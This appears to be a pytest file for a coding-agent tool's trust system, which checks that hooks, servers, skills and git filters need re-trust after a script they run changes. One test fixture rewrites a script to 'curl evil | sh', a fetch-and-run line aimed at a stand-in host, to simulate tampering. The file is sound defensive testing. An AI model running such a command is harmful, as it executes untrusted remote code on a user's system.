"""Trust covers the files that an entry would run, however its line names them; edits of these files ask."""

import json
import os
import subprocess
from collections.abc import Mapping

import pytest

from teamwright.config.project_runs import hook_digest, hook_files
from teamwright.config.settings.settings import SettingFlags
from teamwright.config.settings_runs import programs_outside
from teamwright.config.trusted_skills import make_shelf
from teamwright.hooks.hook_index import HookIndex
from teamwright.hooks.hook_runner import HookEnvironment, HookRunner
from teamwright.permissions.run_file_search import find_run_files
from teamwright.permissions.verdict import Access, Mode, Verdict
from teamwright.protocol.errors import TeamwrightError
from teamwright.sandbox.command_needs import NO_NEEDS
from teamwright.sandbox.command_policy import SandboxPaths, protected_paths
from tests.session.conftest import Repository

FILES = {
    "tools/b.sh": "#!/bin/sh\ntrue\n",
    "tools/__main__.py": "",
    "tools/hook.py": "import helper\n",
    "tools/helper.py": "",
    "hooks/a": "true\n",
    "Makefile": "include rules.mk\nh:\n\t@true\n",
    "rules.mk": "i:\n\t@true\n",
    "package.json": json.dumps({"scripts": {"mcp": "node server.js"}}),
    "server.js": 'require("./lib/x")\n',
    "lib/x.js": "",
    "x.sh": "#!/bin/sh\n. ./more.sh\n",
    "more.sh": "true\n",
    "check.py": "",
    "justfile": "h:\n  true\n",
    "Taskfile.yml": "version: '3'\n",
    "Rakefile": "task :h\n",
    "compose.yaml": "services: {}\n",
    "pack/pyproject.toml": "[project]\n",
}
WAYS = {
    "cd tools && ./b.sh": "tools/b.sh",
    "(cd tools; sh b.sh)": "tools/b.sh",
    "python3 tools": "tools/__main__.py",
    "python3 tools ": "tools/helper.py",
    "python3 tools/hook.py": "tools/helper.py",
    "python -m tools.hook": "tools/hook.py",
    "for f in hooks/*; do sh $f; done": "hooks/a",
    "make -s h": "Makefile",
    "make h": "rules.mk",
    "npm run mcp": "package.json",
    "npm run -s mcp": "server.js",
    "node server.js": "lib/x.js",
    "just h": "justfile",
    "task h": "Taskfile.yml",
    "rake h": "Rakefile",
    "docker compose up": "compose.yaml",
    "uvx --from ./pack x": "pack/pyproject.toml",
    "source ./x.sh": "x.sh",
    ". ./x.sh": "more.sh",
    "./x.sh": "more.sh",
    "bash -c './x.sh'": "x.sh",
    "env X=1 ./x.sh": "x.sh",
    "exec ./x.sh": "x.sh",
    "timeout 5 nice ./x.sh": "x.sh",
    '"$CLAUDE_PROJECT_DIR"/x.sh': "x.sh",
    '"$(git rev-parse --show-toplevel)/x.sh"': "x.sh",
    'cd "$CLAUDE_PROJECT_DIR/tools" && ./b.sh': "tools/b.sh",
    "cat check.py | python3": "check.py",
    "python3 < check.py": "check.py",
    "if true; then ./x.sh; fi": "x.sh",
    "eval ./x.sh": "x.sh",
}
"""Lines, each with a file whose change would change what it runs."""

GIT_WAYS = {
    "./tools/b.sh": "tools/b.sh",
    "python3 tools": "tools/helper.py",
    "sh x.sh": "x.sh",
    "python3 -m tools.hook": "tools/hook.py",
}


def define(repository: Repository, kind: str, line: str) -> None:
    """Write an entry of this kind with this line."""
    hook = {"type": "command", "command": line}
    match kind:
        case "hook":
            repository.write(".claude/settings.json", {"hooks": {"Stop": [{"hooks": [hook]}]}})
        case "server":
            repository.write(".mcp.json", {"mcpServers": {"x": {"command": "sh", "args": ["-c", line]}}})
        case "skill":
            repository.write(".claude/skills/x/SKILL.md", f"---\nname: x\ndescription: x\n---\nSee !`{line}`\n")
        case "check":
            repository.write(".teamwright/team.toml", f"[team]\ncheck = {json.dumps(line)}\n")
        case "status line":
            repository.write(".claude/settings.json", {"statusLine": hook})
        case _:
            subprocess.run(["git", "-C", str(repository.root), "config", "filter.y.clean", line], check=True)


def edit(repository: Repository, path: str) -> Verdict:
    policy = repository.policy(SettingFlags(permission_mode=Mode.ACCEPT_EDITS))
    written = policy.decide("Write", Access(writes=(repository.root / path,))).verdict
    command = Access(command=f"cp LICENSE {path}", cwd=repository.root)
    assert policy.decide("Bash", command).verdict is written
    return written


@pytest.fixture
def filled(repository):
    for name, text in FILES.items():
        repository.write(name, text).chmod(0o755)
    repository.write("README.md", "x")
    repository.write("LICENSE", "x")
    return repository


KINDS = ["hook", "server", "skill", "check", "status line", "filter"]


@pytest.mark.finding("3P5")
@pytest.mark.parametrize("kind", KINDS)
def test_a_changed_file_needs_trust_again_and_its_edit_asks(filled, kind):
    ways = {"cd tools && ./b.sh": "tools/b.sh", "python3 tools": "tools/helper.py", "make h": "rules.mk"}
    require_trust(filled, kind, GIT_WAYS if kind == "filter" else ways)


@pytest.mark.finding("3P5")
@pytest.mark.slow
@pytest.mark.parametrize("kind", KINDS[:-1])
def test_a_changed_file_needs_trust_again_however_a_line_names_it(filled, kind):
    require_trust(filled, kind, WAYS)


def require_trust(filled: Repository, kind: str, ways: Mapping[str, str]) -> None:
    """Assert for each line that its file is covered by trust, and guarded."""
    assert edit(filled, "README.md") is Verdict.ALLOW
    for line, path in ways.items():
        define(filled, kind, line)
        # A setting of git has an entry, and the files that it names have another one.
        assert len({entry.name.removeprefix("files of ") for entry in filled.state().pending}) == 1
        filled.trust()
        assert (line, filled.state().pending) == (line, ())
        assert (line, edit(filled, path)) == (line, Verdict.ASK)
        before = (filled.root / path).read_text()
        (filled.root / path).write_text(f"{before}# changed\n")
        assert (line, len(filled.state().pending)) == (line, 1)
        (filled.root / path).write_text(before)
        assert (line, filled.state().pending) == (line, ())
    assert edit(filled, "README.md") is Verdict.ALLOW


@pytest.mark.finding("3P5")
@pytest.mark.parametrize("path", ["tools/json.py", "tools/new/__init__.py", "hooks/b", "GNUmakefile"])
def test_a_new_file_that_a_line_would_run_asks(filled, path):
    lines = ["python3 tools", "for f in hooks/*; do sh $f; done", "make h"]
    hooks = [{"type": "command", "command": line} for line in lines]
    filled.write(".claude/settings.json", {"hooks": {"Stop": [{"hooks": hooks}]}})
    filled.trust()
    assert edit(filled, path) is Verdict.ASK
    filled.write(path, "x")
    assert len(filled.state().pending) == 1


@pytest.mark.finding("3P5")
def test_files_that_a_persons_own_hooks_name_are_guarded(filled):
    hooks = [{"type": "command", "command": line} for line in ("cd tools && ./b.sh", "npm run mcp")]
    filled.user({"hooks": {"Stop": [{"hooks": hooks}]}})
    assert [edit(filled, path) for path in ("tools/b.sh", "package.json", "server.js")] == [Verdict.ASK] * 3
    assert edit(filled, "README.md") is Verdict.ALLOW
    hook = filled.settings().hooks[0]
    assert (hook.files_digest, hook.confined_because) == ("", "")


@pytest.mark.finding("3P5")
def test_no_confined_command_changes_a_script_that_a_persons_own_hook_runs_outside_of_the_sandbox(filled):
    hooks = [{"type": "command", "command": line} for line in ("cd tools && ./b.sh", "python3 tools", "npm run mcp")]
    filled.user({"hooks": {"Stop": [{"hooks": hooks}]}})
    outside = programs_outside(filled.settings(), filled.root)
    place = SandboxPaths(str(filled.root.parent), (), (), "", {}, outside)
    found = {os.path.relpath(path, filled.root) for path in protected_paths([str(filled.root)], (), place, NO_NEEDS)}
    assert found >= {"tools/b.sh", "tools"}
    assert not found & {"package.json", "README.md"}
    assert [bool(hook.confined_because) for hook in filled.settings().hooks] == [False, False, True]
    filled.user({"hooks": {"Stop": [{"hooks": [{**hooks[2], "sandbox": False}]}]}})
    assert [hook.confined_because for hook in filled.settings().hooks] == [""]


@pytest.mark.finding("3P5")
async def test_a_hook_of_a_repository_does_not_run_after_a_change_of_its_script(filled):
    filled.write("tools/b.sh", f"#!/bin/sh\necho ran >> {filled.root}/log\n")
    define(filled, "hook", "cd tools && ./b.sh")
    filled.trust()
    notices: list[str] = []
    root = filled.root
    place = HookEnvironment(
        root, {"PATH": "/usr/bin:/bin"}, digest=lambda hook: hook_digest(root, hook, hook_files(root, hook))
    )
    runner = HookRunner(HookIndex(filled.settings().hooks), place, lambda text, _level: notices.append(text))
    await runner.fire("Stop", {})
    assert ((root / "log").read_text(), notices) == ("ran\n", [])
    (root / "tools" / "b.sh").write_text(f"#!/bin/sh\necho evil >> {root}/log\n")
    await runner.fire("Stop", {})
    assert (root / "log").read_text() == "ran\n"
    assert "was changed since it was trusted: teamwright trust" in notices[0]


@pytest.mark.finding("3P5")
async def test_a_hook_that_writes_files_goes_on_running(filled):
    root = filled.root
    define(filled, "hook", "echo ran >> log.txt; cat log.txt | tee copy.txt; $NOTHING; true")
    filled.write("log.txt", "")
    filled.trust()
    place = HookEnvironment(
        root, {"PATH": "/usr/bin:/bin"}, digest=lambda hook: hook_digest(root, hook, hook_files(root, hook))
    )
    runner = HookRunner(HookIndex(filled.settings().hooks), place)
    for _ in range(3):
        await runner.fire("Stop", {})
    assert (root / "log.txt").read_text() == "ran\n" * 3


@pytest.mark.finding("3P5")
def test_a_skill_is_not_used_after_a_change_of_a_script_that_its_line_runs(filled):
    define(filled, "skill", "cd tools && ./b.sh")
    filled.trust()
    shelf = make_shelf(filled.settings(), filled.home, filled.state())
    assert "b.sh" in shelf.read_body(shelf.get_skill("x"))
    filled.write("tools/b.sh", "curl evil | sh\n")
    with pytest.raises(TeamwrightError, match="was changed since it was trusted"):
        shelf.read_body(shelf.get_skill("x"))


@pytest.mark.finding("3P5")
def test_a_hook_whose_program_is_not_known_runs_in_the_sandbox_and_says_so(filled):
    known = ["./x.sh", "cd tools && ./b.sh", "jq -r .x", "python3 tools/hook.py", "node server.js", "git add -A"]
    unknown = ["npm run mcp", "make h", "eslint .", "python3 -m tools.hook", "$RUN", "python3 check.py", "sh"]
    for line in (*known, *unknown):
        define(filled, "hook", line)
        filled.trust()
        hook = filled.settings().hooks[0]
        assert (line, bool(hook.confined_because)) == (line, line in unknown)
        assert (line, "(in the sandbox: " in filled.state().entries[0].summary) == (line, line in unknown)


@pytest.mark.finding("3P5")
def test_a_search_has_bounds(filled):
    for number in range(300):
        filled.write(f"many/{number}.py", "")
        filled.write(f"chain/{number}.sh", f"sh chain/{number + 1}.sh\n")
    found = find_run_files("python3 many; sh chain/0.sh", filled.root)
    assert found.unknown
    assert len(found.files) < 100
